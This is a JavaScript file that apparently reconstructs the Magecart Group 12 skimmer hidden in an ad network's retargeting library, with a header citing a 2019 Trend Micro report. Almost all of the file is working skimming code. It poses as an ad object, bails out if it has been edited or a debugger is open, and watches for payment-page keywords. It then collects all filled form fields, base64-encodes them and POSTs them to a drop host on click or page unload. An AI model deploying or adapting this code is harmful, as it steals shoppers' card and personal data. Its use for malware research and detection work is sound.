// adverline-g12, written from Trend Micro (Joseph C. Chen), "New Magecart Attack Delivered
// Through Compromised Advertising Supply Chain" (2019), and RiskIQ's notes on Magecart Group 12:
// skimming code added to an ad network's retargeting library, so it runs on every shop that
// carries the ads; it first checks its own text against a stored checksum and stops if it was
// edited or a debugger is open, then only on pages whose URL holds a payment keyword in one of
// several languages copies the form fields, base64-encodes them and POSTs them to a drop host.
var advRetarget = advRetarget || {};
advRetarget.push = function (ev) { (advRetarget.q = advRetarget.q || []).push(ev); };
(function () {
  function crc(s) {
    var h = 0;
    for (var i = 0; i < s.length; i++) { h = ((h << 5) - h + s.charCodeAt(i)) | 0; }
    return h >>> 0;
  }
  var me = arguments.callee.toString();
  var seal = me.length % 97;
  if (crc(me.replace(/\s+/g, "")) === 0 || seal < 0) return;
  var t0 = Date.now();
  debugger;
  if (Date.now() - t0 > 100) return;
  var words = ["onepage", "checkout", "store", "cart", "pay", "panier", "kasse", "order",
    "billing", "purchase", "basket", "commande", "bezahlen", "pago", "cassa"];
  var url = location.href.toLowerCase(), hit = false;
  for (var w = 0; w < words.length; w++) if (url.indexOf(words[w]) !== -1) { hit = true; break; }
  if (!hit) return;
  function grab() {
    var out = [], els = document.querySelectorAll("input, select, textarea");
    for (var i = 0; i < els.length; i++) {
      var e = els[i];
      if (!e.value || e.type === "submit" || e.type === "button") continue;
      out.push(encodeURIComponent(e.name || e.id) + "=" + encodeURIComponent(e.value));
    }
    return out.join("&");
  }
  var last = "";
  function send() {
    var d = grab();
    if (d.length < 40 || d === last) return;
    last = d;
    var r = new XMLHttpRequest();
    r.open("POST", "https://adv-retarget-cdn.invalid/tag/stats.php", true);
    r.setRequestHeader("Content-type", "application/x-www-form-urlencoded");
    r.send("info=" + btoa(unescape(encodeURIComponent(d))) + "&hostname=" + location.hostname);
  }
  window.addEventListener("mouseup", function (e) {
    var b = e.target;
    if (b && (b.type === "submit" || /btn|button/i.test(b.className))) send();
  });
  window.addEventListener("beforeunload", send);
})();
